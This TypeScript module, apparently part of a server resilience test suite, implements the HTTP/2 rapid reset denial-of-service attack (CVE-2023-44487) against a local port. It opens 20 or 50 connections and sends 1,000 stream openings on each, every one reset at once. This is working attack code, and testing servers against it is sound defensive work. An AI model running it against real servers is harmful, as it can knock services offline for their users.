// HTTP/2 rapid reset (CVE-2023-44487): streams that are reset as soon as they are opened.

import { once } from 'node:events';
import { connect } from 'node:net';
import { FLAG, FRAME, fieldBlock, frame, OPENING } from '../../support/frames.ts';
import type { Attack } from '../attack.ts';

const CONNECTIONS = { short: 20, full: 50 };
const STREAMS = 1000;
const CANCEL = Buffer.from([0, 0, 0, 8]);

export const rapidResets: Attack = {
  title: 'HTTP/2 connections that open 1,000 streams and reset each at once',
  async run({ port }, size) {
    const fields = fieldBlock([
      [':method', 'GET'],
      [':scheme', 'http'],
      [':path', '/openapi.json'],
      [':authority', 'localhost'],
    ]);
    const streams = Array.from({ length: STREAMS }, (_, index) => [
      frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, 2 * index + 1, fields),
      frame(FRAME.reset, 0, 2 * index + 1, CANCEL),
    ]);
    const words = Buffer.concat([OPENING, ...streams.flat()]);
    await Promise.all(
      Array.from({ length: CONNECTIONS[size] }, async () => {
        const socket = connect(port, '127.0.0.1').on('error', () => {});
        await once(socket, 'connect');
        await new Promise((resolve) => socket.write(words, resolve));
        const gone = once(socket, 'close');
        socket.destroy();
        await gone;
      }),
    );
    return CONNECTIONS[size] * STREAMS;
  },
};
